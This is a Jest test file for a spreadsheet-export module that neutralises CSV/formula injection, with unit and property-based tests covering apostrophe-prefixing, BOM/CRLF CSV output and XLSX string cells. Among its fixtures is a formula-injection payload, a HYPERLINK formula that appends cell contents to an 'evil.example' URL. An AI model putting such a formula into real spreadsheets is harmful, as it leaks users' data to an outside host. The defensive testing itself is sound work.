import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { BOM, csvFile, neutraliseFormula, textCell } from './spreadsheet-safe.js';

/** Naive CSV reader for the files `csvFile` writes (quoted cells, doubled quotes, CRLF records). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('neutraliseFormula', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"xem")', '+1', '-2', '@SUM(A1:A9)', '\t=1', '\r=1'])(
    'prefixes %p with an apostrophe',
    (v) => {
      expect(neutraliseFormula(v)).toBe(`'${v}`);
    },
  );
  it.each(['Nguyễn Văn An', '1', '05/03/2026', '', ' =1', "'=1", 'a=b'])('leaves %p alone', (v) =>
    expect(neutraliseFormula(v)).toBe(v),
  );
  it('never leaves a dangerous first character, and only ever adds one apostrophe', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const out = neutraliseFormula(s);
        expect(/^[=+\-@\t\r]/.test(out)).toBe(false);
        expect(out === s || out === `'${s}`).toBe(true);
      }),
    );
  });
});

describe('csvFile', () => {
  it('writes UTF-8 with a BOM, CRLF records, and every cell neutralised', () => {
    const buf = csvFile([
      ['Họ tên', 'Ghi chú'],
      ['=HYPERLINK("http://x","y")', '+1'],
      ['-2', '@SUM(A1)'],
    ]);
    const text = buf.toString('utf8');
    expect(text.startsWith(BOM)).toBe(true);
    expect(readCsv(text.slice(1))).toEqual([
      ['Họ tên', 'Ghi chú'],
      [`'=HYPERLINK("http://x","y")`, "'+1"],
      ["'-2", "'@SUM(A1)"],
    ]);
  });
  it('round-trips any text row, changed only by the prefix', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
        (rows) => {
          expect(readCsv(csvFile(rows).toString('utf8').slice(1))).toEqual(rows.map((r) => r.map(neutraliseFormula)));
        },
      ),
    );
  });
});

describe('textCell', () => {
  it('keeps formula-looking text as a string cell in XLSX', async () => {
    const values = ['=HYPERLINK("http://x","y")', '+1', '-2', '@SUM(A1)'];
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('a').addRow(values.map(textCell));
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(Buffer.from(await wb.xlsx.writeBuffer()) as never);
    const row = back.worksheets[0]!.getRow(1);
    values.forEach((v, i) => {
      expect(row.getCell(i + 1).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(i + 1).value).toBe(v);
    });
  });
});

describe('every CSV writer', () => {
  it('goes through csvFile: no other file of src builds CSV itself', async () => {
    const { readdirSync, readFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    const root = join(process.cwd(), 'src');
    const files = (readdirSync(root, { recursive: true }) as string[]).filter(
      (f) => f.endsWith('.ts') && !f.endsWith('.spec.ts'),
    );
    const writers = files.filter((f) => /from 'csv-stringify/.test(readFileSync(join(root, f), 'utf8')));
    expect(writers).toEqual(['common/export/spreadsheet-safe.ts']);
  });
});
